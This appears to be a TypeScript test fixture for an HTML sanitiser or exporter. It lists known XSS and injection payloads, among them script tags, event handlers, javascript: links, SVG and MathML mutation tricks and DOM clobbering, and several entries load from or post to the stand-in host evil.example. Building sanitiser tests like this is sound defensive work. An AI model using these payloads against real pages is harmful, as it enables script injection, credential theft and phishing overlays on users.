/** HTML that has run script, fetched, or changed the page in exporters and sanitisers before. */
export const HOSTILE: Record<string, string> = {
  script: "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  handler:
    `<img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>`,
  "javascript link":
    `<a href="javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">x</a>`,
  "data link": `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  frame:
    `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>`,
  form:
    `<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">go</button></form>`,
  style:
    `<style>@import "https://evil.example/x.css"; body{display:none}</style><p style="background:url(https://evil.example/x.png)">x</p>`,
  overlay: `<div style="position:fixed;inset:0;z-index:9">Log in</div>`,
  link:
    `<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>`,
  picture:
    `<img src="https://evil.example/track.png" srcset="https://evil.example/2.png 2x"><video poster=https://evil.example/p></video><audio src=https://evil.example/a></audio>`,
  "svg script": `<svg><script>alert(1)</script><script href="data:,alert(1)"/></svg>`,
  "svg foreignObject":
    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  "svg animate":
    `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a><set attributeName=onmouseover to=alert(1)></svg>`,
  "svg use":
    `<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,<svg id='a'><script>alert(1)</script></svg>#a"/><image href="https://evil.example/x.png"/></svg>`,
  "svg fill":
    `<svg><rect fill="url(https://evil.example/x#a)" style="fill:url(https://evil.example/x)"/></svg>`,
  "svg title":
    `<svg><title><img src=x onerror=alert(1)></title><desc><img src=x onerror=alert(1)></desc></svg>`,
  "svg style": `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  mathml:
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  comment: `<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>`,
  template: `<template><script>alert(1)</script></template>`,
  clobbering:
    `<img name=querySelector><a id=documentElement name=body></a><form name=getElementById id=theme></form><div id="provenance-data"></div>`,
  "closing tags": `</div></main></body></html><h1>Mine</h1>`,
  mermaid:
    `<div class="mermaid">graph TD; A["<img src=x onerror=alert(1)>"]; click A href "javascript:alert(1)"</div>`,
};
